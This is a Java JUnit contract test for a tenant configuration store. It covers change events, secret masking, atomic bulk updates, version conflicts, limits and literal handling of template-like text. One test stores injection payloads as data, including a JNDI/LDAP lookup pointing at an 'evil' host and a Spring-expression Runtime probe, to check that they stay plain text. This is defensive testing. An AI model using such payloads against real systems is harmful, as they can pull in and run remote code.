package dev.lexigram.tenancy.testkit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.lexigram.tenancy.stores.ConfigChange;
import dev.lexigram.tenancy.stores.ConfigLimits;
import dev.lexigram.tenancy.stores.ConfigUpdate;
import dev.lexigram.tenancy.stores.TenantConfigProvider;
import dev.lexigram.tenancy.tenant.TenantConfigChanged;
import dev.lexigram.tenancy.tenant.TenantConfigException;
import dev.lexigram.tenancy.tenant.TenantConflictException;
import dev.lexigram.tenancy.tenant.TenantEvent;
import java.math.BigDecimal;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/** A change is stored as a whole and together with its events, only if it changes something, and none is lost. */
interface TenantConfigChangeContract extends TenantConfigProviderFixture {

    @Test
    default void K_7_every_change_is_told_with_its_old_and_new_value_and_only_if_it_changes_something() {
        var provider = emptyProvider();

        provider.setConfig("acme", "max", 10);
        provider.setConfig("acme", "max", 10L);
        provider.setConfig("acme", "max", new BigDecimal("10"));
        provider.setConfig("acme", "max", "10");
        provider.unsetConfig("acme", "max");
        provider.unsetConfig("acme", "max");

        assertThat(storedEvents(provider)).allSatisfy(event -> {
            assertThat(event.tenantId()).isEqualTo(ACME);
            assertThat(event.actor()).isEqualTo("system");
        });
        assertThat(storedEvents(provider).stream().map(TenantConfigChangeContract::told))
                .containsExactly("1 max null 10 v1", "2 max 10 10 v2", "3 max 10 null v3");
        assertThat(((TenantConfigChanged) storedEvents(provider).get(1)).newValue())
                .isEqualTo("10");
        assertThat(provider.snapshot(ACME).version()).isEqualTo(3);
    }

    @Test
    default void CF_07_the_values_of_a_secret_are_masked_in_events() {
        var provider = emptyProvider();

        provider.apply(
                ACME, ConfigUpdate.of(ConfigChange.set("password", "s3cret").asSecret()));
        provider.apply(
                ACME, ConfigUpdate.of(ConfigChange.set("password", "s3cret2").asSecret()));
        provider.apply(ACME, ConfigUpdate.of(ConfigChange.unset("password").asSecret()));
        provider.setConfig("acme", "open", "s3cret");

        assertThat(storedEvents(provider).stream().map(TenantConfigChangeContract::told))
                .containsExactly(
                        "1 password null *** v1",
                        "2 password *** *** v2",
                        "3 password *** null v3",
                        "4 open null s3cret v4"); // control: what is not secret is told
        assertThat(provider.snapshot(ACME).toString()).doesNotContain("s3cret");
    }

    @Test
    default void K_6_a_bulk_is_stored_as_a_whole_or_not_at_all() {
        var provider = emptyProvider();
        provider.setConfigs("acme", Map.of("a", 1, "b", 2));
        var before = provider.snapshot(ACME);

        for (var refused : List.of(
                List.of(ConfigChange.set("a", 3), ConfigChange.set("b", 3).ifVersion(7)),
                List.of(ConfigChange.set("a", 3), ConfigChange.unset("b").ifVersion(TenantConfigProvider.UNSET)),
                List.of(ConfigChange.set("a", 3), ConfigChange.set("c", "x".repeat(4095))))) {
            assertThatThrownBy(() -> provider.apply(ACME, ConfigUpdate.of(refused.toArray(ConfigChange[]::new))))
                    .isInstanceOfAny(TenantConflictException.class, TenantConfigException.class);
        }

        assertThat(provider.snapshot(ACME)).isEqualTo(before);
        assertThat(storedEvents(provider)).hasSize(2);
        assertThat(before.version()).isEqualTo(1);
    }

    @Test
    default void K_6_a_stale_version_is_refused_and_no_version_comes_twice() {
        var provider = emptyProvider();

        var first = provider.compareAndSet("acme", "max", TenantConfigProvider.UNSET, 1);
        provider.setConfig("acme", "other", 1);
        var second = provider.compareAndSet("acme", "max", first, 2);
        provider.unsetConfig("acme", "max");
        provider.setConfig("acme", "max", 1);

        assertThat(provider.snapshot(ACME).versionOf("max")).isNotIn(first, second, TenantConfigProvider.UNSET);
        for (var stale : new long[] {first, second, TenantConfigProvider.UNSET, -1}) {
            assertThatThrownBy(() -> provider.compareAndSet("acme", "max", stale, 9))
                    .isInstanceOf(TenantConflictException.class);
        }
        assertThat(provider.getConfig("acme", "max")).hasValue("1");
    }

    @Test
    default void CF_03_of_32_increments_by_compare_and_set_none_is_lost() {
        var provider = emptyProvider();
        provider.setConfig("acme", "count", 0);

        var outcomes = TenantStoreFixture.race(8, () -> {
            var conflicts = 0;
            for (var added = 0; added < 4; ) {
                try {
                    var entry = provider.snapshot(ACME).entry("count").orElseThrow();
                    provider.compareAndSet(
                            "acme",
                            "count",
                            entry.version(),
                            Long.parseLong(entry.value().text()) + 1);
                    added++;
                } catch (TenantConflictException overtaken) {
                    conflicts++;
                }
            }
            return conflicts;
        });

        assertThat(outcomes).allMatch(Integer.class::isInstance);
        assertThat(provider.getConfig("acme", "count")).hasValue("32");
        assertThat(storedEvents(provider)).hasSize(33);
        assertThat(storedEvents(provider).stream().map(TenantEvent::sequence))
                .isEqualTo(IntStream.rangeClosed(1, 33).mapToObj(Long::valueOf).toList());
    }

    @Test
    default void CF_03_control_of_two_plain_writers_that_have_read_the_same_one_is_lost() {
        var provider = emptyProvider();
        provider.setConfig("acme", "count", 0);

        var mine = Long.parseLong(provider.getConfig("acme", "count").orElseThrow());
        var yours = Long.parseLong(provider.getConfig("acme", "count").orElseThrow());
        provider.setConfig("acme", "count", mine + 1);
        provider.setConfig("acme", "count", yours + 1);

        assertThat(provider.getConfig("acme", "count")).hasValue("1");
    }

    @Test
    default void CF_01_what_passes_a_limit_is_refused_and_nothing_is_stored() {
        var provider = emptyProvider();
        var limits = new ConfigLimits(3, 10, 25);
        provider.apply(ACME, within(limits, ConfigChange.set("a", 1), ConfigChange.set("b", "12345678")));
        var before = provider.snapshot(ACME);

        assertRefused(provider, within(limits, ConfigChange.set("a", "123456789"))); // 11 bytes with its quotes
        assertRefused(provider, within(limits, ConfigChange.set("c", 1), ConfigChange.set("d", 1))); // a fourth key
        assertRefused(provider, within(limits, ConfigChange.set("c", "12345678"), ConfigChange.set("a", 123)));
        assertThat(provider.snapshot(ACME)).isEqualTo(before);
        assertThat(storedEvents(provider)).hasSize(2);

        provider.apply(ACME, within(limits, ConfigChange.set("c", "1234567")));
        provider.apply(ACME, within(new ConfigLimits(1, 10, 1), ConfigChange.unset("b"))); // may become smaller
        assertThat(provider.snapshot(ACME).entries()).containsOnlyKeys("a", "c");
    }

    @Test
    default void CF_01_control_within_other_limits_the_same_is_stored() {
        var provider = emptyProvider();

        provider.apply(ACME, within(ConfigLimits.DEFAULTS, ConfigChange.set("a", "123456789")));
        provider.apply(ACME, within(ConfigLimits.DEFAULTS, ConfigChange.set("b", 1), ConfigChange.set("c", 1)));

        assertThat(provider.snapshot(ACME).entries()).hasSize(3);
    }

    @Test
    default void CF_05_text_that_looks_like_a_template_stays_text() {
        var provider = emptyProvider();

        for (var template : List.of("${jndi:ldap://evil/x}", "#{T(java.lang.Runtime)}", "${globex.secret}", "%{1+1}")) {
            provider.setConfig("acme", "text", template);
            assertThat(provider.getConfig("acme", "text")).hasValue(template);
        }
    }

    private static ConfigUpdate within(ConfigLimits limits, ConfigChange... changes) {
        var update = ConfigUpdate.of(changes);
        return new ConfigUpdate(update.changes(), limits, false, update.at(), update.actor());
    }

    private static void assertRefused(TenantConfigProvider provider, ConfigUpdate update) {
        assertThatThrownBy(() -> provider.apply(ACME, update))
                .isInstanceOf(TenantConfigException.class)
                .hasMessageNotContaining("123456");
    }

    private static @Nullable String told(TenantEvent event) {
        return event instanceof TenantConfigChanged changed
                ? changed.sequence() + " " + changed.key() + " " + changed.oldValue() + " " + changed.newValue() + " v"
                        + changed.version()
                : null;
    }
}
